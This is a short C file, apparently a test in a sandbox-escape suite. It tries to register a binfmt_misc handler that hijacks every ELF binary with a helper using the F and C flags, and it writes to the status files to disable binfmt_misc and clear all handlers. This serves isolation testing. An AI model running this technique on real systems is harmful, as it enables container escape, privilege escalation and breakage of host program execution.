/* Registers a program of the guest for every program of the host of a format (binfmt-misc.rst). */
#include "common/attack.h"

static void attempt(void) {
    const char *place = mounted("binfmt_misc", NULL);
    char path[128], line[256];
    snprintf(line, sizeof line, ":attacker:M::\\x7fELF::%s:FC\n", own("helper"));
    put("/proc/sys/fs/binfmt_misc/register", line);
    put("/proc/sys/fs/binfmt_misc/status", "0");
    if (place) {
        snprintf(path, sizeof path, "%s/status", place);
        put(path, "-1");
        snprintf(path, sizeof path, "%s/register", place);
        put(path, ":attacker:E::attacker::/bin/busybox:FC\n");
    }
}
